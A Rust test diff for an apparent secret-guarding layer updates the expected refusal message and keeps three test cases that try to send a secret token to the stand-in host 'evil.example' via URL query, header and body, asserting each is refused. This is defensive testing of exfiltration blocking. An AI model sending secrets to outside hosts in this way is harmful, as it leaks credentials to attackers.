@@ -313,7 +313,8 @@ mod tests {
     fn what_may_not_leave_is_refused() {
         let (seal, token) = seal();
         let refused = |request: Request| sealed(&seal, request).expect_err("it may not be sent");
-        let elsewhere = "the secret `token` may not be sent to `evil.example`: CONFIG names `api.x.com`";
+        let elsewhere = "the secret `token` may not be sent to `evil.example`: CONFIG names `api.x.com`; `hosts` of its field in \
+                         CONFIG_SCHEMA may name others";
         assert_eq!(refused(request(&format!("https://evil.example/?{token}"), &[], "")), elsewhere);
         assert_eq!(refused(request("https://evil.example/", &[("x", &token)], "")), elsewhere);
         assert_eq!(refused(request("https://evil.example/", &[], &token)), elsewhere);
